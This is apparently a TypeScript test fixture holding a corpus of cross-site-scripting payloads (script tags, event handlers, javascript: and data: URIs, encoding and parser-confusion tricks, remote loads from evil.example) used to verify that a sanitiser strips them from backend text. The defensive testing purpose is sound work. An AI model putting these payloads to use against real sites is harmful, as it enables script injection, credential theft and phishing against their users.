/**
 * Payloads a hostile or compromised backend might put in any text it sends. Each one, if it ran,
 * would set `window.__xss`; the tests also look for elements that must never be rendered. Used by
 * unit tests and by the embedded backend's hostile-texts switch (handlers/hostile.ts).
 */
export const XSS_CORPUS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss=2">',
  '<img src="x" onerror=window.__xss=3 />',
  '<a href="javascript:window.__xss=4">click</a>',
  '<a href="JaVaScRiPt:window.__xss=5">click</a>',
  '<a href="&#106;avascript:window.__xss=6">encoded</a>',
  '<a href=" &#x6A;avascript&#x3A;window.__xss=7">hex encoded</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9ODwvc2NyaXB0Pg==">data</a>',
  '<svg onload="window.__xss=9"><circle r="1"/></svg>',
  '<svg><script>window.__xss=10</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=11">',
  '<iframe src="javascript:window.__xss=12"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=13</script>"></iframe>',
  '<object data="javascript:window.__xss=14"></object>',
  '<embed src="javascript:window.__xss=15">',
  '<form action="javascript:window.__xss=16"><button>go</button></form>',
  '<div onclick="window.__xss=17" onmouseover="window.__xss=17">hover</div>',
  '<body onload="window.__xss=18">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<b style="background:url(javascript:window.__xss=19)">styled</b>',
  '<scr<script>ipt>window.__xss=20</scr</script>ipt>',
  '<<img src=x onerror=window.__xss=21>>',
  '&lt;script&gt;window.__xss=22&lt;/script&gt;',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=23>">',
  '<template><img src=x onerror=window.__xss=24></template>',
  '<details open ontoggle="window.__xss=25">',
  '<input autofocus onfocus="window.__xss=26">',
  '<video><source onerror="window.__xss=27"></video>',
  '<a href="https://evil.example/phish" data-route="/x" target="_self">phish</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=28">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<base href="https://evil.example/">',
];

/** Elements no sanitised notice may contain. */
export const FORBIDDEN_SELECTOR = 'script, img, svg, math, iframe, object, embed, form, input, button, style, link, meta, base, video, source, template, noscript, details, body';

/** Every corpus entry in one text, between harmless words, as one notice would carry them. */
export const XSS_CONTENT = `Important notice: ${XSS_CORPUS.join(' | ')} Read the {terms}.`;
